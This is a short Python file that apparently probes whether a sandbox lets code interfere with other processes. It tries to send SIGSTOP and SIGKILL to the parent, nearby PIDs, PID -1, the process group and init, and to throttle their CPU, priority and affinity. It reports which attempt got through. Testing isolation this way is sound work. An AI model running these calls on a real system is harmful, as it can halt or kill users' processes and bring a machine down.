# Stops, kills and slows every process it can name.

import os
import resource
import signal


def _attempts():
    others = [os.getppid(), os.getppid() - 1, os.getppid() + 1, -1, 0, 1, 2]
    for other in others:
        if other == os.getpid():
            continue
        yield lambda other=other: os.kill(other, signal.SIGSTOP)
        yield lambda other=other: os.kill(other, signal.SIGKILL)
        if other > 0:
            yield lambda other=other: resource.prlimit(other, resource.RLIMIT_CPU, (1, 1))
            yield lambda other=other: os.setpriority(os.PRIO_PROCESS, other, 19)
            yield lambda other=other: os.pidfd_open(other)
            yield lambda other=other: os.sched_setaffinity(other, {0})


def one():
    for number, attempt in enumerate(_attempts()):
        try:
            attempt()
        except OSError:
            continue
        return f"attempt {number} was let through"
    return 1


def double(x):
    return x
